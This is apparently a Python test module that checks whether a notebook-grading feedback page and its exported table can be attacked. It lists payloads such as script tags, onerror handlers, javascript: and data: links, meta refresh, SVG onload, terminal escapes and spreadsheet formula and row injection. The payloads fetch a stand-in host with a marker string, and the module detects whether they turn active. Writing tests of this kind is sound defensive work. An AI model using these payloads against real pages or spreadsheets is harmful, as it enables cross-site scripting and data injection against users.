"""Script and formulas meant for those who look at feedback and tables."""

from __future__ import annotations

import csv
from html.parser import HTMLParser
from io import StringIO

from attacks.model import Attack, Look, any_of, disturbed, first

MARK = "stolen-3d1e"
"""In whatever an attack wants to be executed or fetched."""

_LINKS = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "xlink:href",
    "background",
    "poster",
    "style",
    "content",
)


class _Active(HTMLParser):
    """Collects what a browser would execute or fetch because of an attack."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in {"script", "style"} else ""
        for name, value in attrs:
            if MARK in (value or "") and (name.startswith("on") or name in _LINKS):
                self.found.append(f"<{tag} {name}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if self._inside and MARK in data:
            self.found.append(self._inside)

    def handle_endtag(self, _: str) -> None:
        self._inside = ""


def active(look: Look) -> bool:
    """Tell whether the feedback page holds an active element of the attack."""
    reader = _Active()
    reader.feed(look.page)
    reader.close()
    return bool(reader.found)


def _displayed(kind: str, content: str) -> dict[str, str]:
    return first(
        f"from IPython.display import display, HTML, SVG, Javascript, Markdown, Latex\ndisplay({kind}({content!r}))"
    )


def _written(text: str) -> dict[str, str]:
    return {"why": text}


def _raised(text: str) -> dict[str, str]:
    return first(f"raise ValueError({text!r})")


def _formula(look: Look) -> bool:
    """Tell whether a cell of the exported table is a formula, or a name made a row of its own."""
    rows = list(csv.reader(StringIO(look.exported.removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    return any(cell[:1] in {"=", "@", "＝"} for cell in cells if cell) or any(
        row and row[0] == "injected" for row in rows
    )


_DATA = f"data:text/html,<script>{MARK}</script>"
_SCRIPT = f"<script>fetch('//x.invalid/{MARK}')</script>"
_IMAGE = f'<img src=x onerror="{MARK}()">'

ATTACKS = (
    Attack(
        "html-script",
        "出力のHTMLにscriptを入れる",
        "script in an HTML output",
        active,
        plain=True,
        cells=_displayed("HTML", _SCRIPT),
    ),
    Attack(
        "html-handler",
        "出力のHTMLにonerrorを入れる",
        "onerror in an HTML output",
        active,
        plain=True,
        cells=_displayed("HTML", _IMAGE),
    ),
    Attack(
        "html-frame",
        "出力のHTMLにiframeを入れる",
        "iframe in an HTML output",
        active,
        plain=True,
        cells=_displayed("HTML", f'<iframe srcdoc="&lt;script&gt;{MARK}&lt;/script&gt;"></iframe>'),
    ),
    Attack(
        "html-form",
        "出力のHTMLに送信フォームを入れる",
        "form in an HTML output",
        active,
        plain=True,
        cells=_displayed("HTML", f'<form action="//x.invalid/{MARK}"><button>OK</button></form>'),
    ),
    Attack(
        "html-refresh",
        "出力のHTMLで別の場所に移す",
        "meta refresh in an HTML output",
        active,
        plain=True,
        cells=_displayed("HTML", f'<meta http-equiv="refresh" content="0;url=//x.invalid/{MARK}">'),
    ),
    Attack(
        "html-style",
        "スタイルで外の画像を取らせる",
        "a style that fetches a picture",
        active,
        plain=True,
        cells=_displayed("HTML", f'<p style="background:url(//x.invalid/{MARK})">x</p>'),
    ),
    Attack(
        "svg",
        "SVGにscriptを入れる",
        "script in an SVG output",
        active,
        plain=False,
        cells=_displayed(
            "SVG",
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}()"><script>{MARK}</script></svg>',
        ),
    ),
    Attack(
        "javascript",
        "Javascriptを出力する",
        "a Javascript output",
        active,
        plain=True,
        cells=_displayed("Javascript", f"fetch('//x.invalid/{MARK}')"),
    ),
    Attack(
        "markdown-output",
        "出力のMarkdownにscriptを入れる",
        "script in a Markdown output",
        active,
        plain=True,
        cells=_displayed("Markdown", f"{_SCRIPT}\n\n[x](javascript:{MARK})"),
    ),
    Attack(
        "latex-output",
        "出力のLaTeXにHTMLを入れる",
        "HTML in a LaTeX output",
        active,
        plain=False,
        cells=_displayed("Latex", f"$$x$$ {_IMAGE}"),
    ),
    Attack(
        "markdown-script",
        "記述の答えにscriptを入れる",
        "script in a written answer",
        active,
        plain=True,
        cells=_written(f"答え\n\n{_SCRIPT}\n\n{_IMAGE}"),
    ),
    Attack(
        "markdown-link",
        "記述の答えにjavascript:のリンクを入れる",
        "a javascript: link in a written answer",
        active,
        plain=True,
        cells=_written(f"[見る](javascript:{MARK}()) <a href='java\tscript:{MARK}'>x</a>"),
    ),
    Attack(
        "markdown-data",
        "記述の答えにdata:のリンクを入れる",
        "a data: link in a written answer",
        active,
        plain=True,
        cells=_written(f'<a href="{_DATA}">見る</a> <object data="{_DATA}"></object>'),
    ),
    Attack(
        "exception-text",
        "例外の文にHTMLを入れる",
        "HTML in the text of an exception",
        active,
        plain=False,
        cells=_raised(f"{_SCRIPT}{_IMAGE}\x1b[31m"),
    ),
    Attack(
        "printed-escape",
        "印字に端末の制御とHTMLを入れる",
        "terminal control and HTML in what is printed",
        active,
        plain=False,
        cells=first(f"print({_IMAGE!r} + '\\x1b]8;;javascript:{MARK}\\x07x\\x1b]8;;\\x07')"),
    ),
    Attack(
        "source-text",
        "答えの文字列でHTMLを閉じる",
        "close the page's elements in the source of a cell",
        active,
        plain=False,
        cells=first(f"# </pre></div>{_SCRIPT}{_IMAGE}"),
    ),
    Attack(
        "formula-name",
        "表計算の数式になる名前で出す",
        "hand in under a name that is a formula",
        _formula,
        plain=True,
        trainee='=HYPERLINK("x.invalid")',
        alone=True,
    ),
    Attack(
        "row-name",
        "改行のある名前で表に行を足す",
        "hand in under a name with a line break, which begins a row of its own",
        any_of(_formula, disturbed),
        plain=True,
        trainee="x\ninjected,1",
        alone=True,
    ),
)
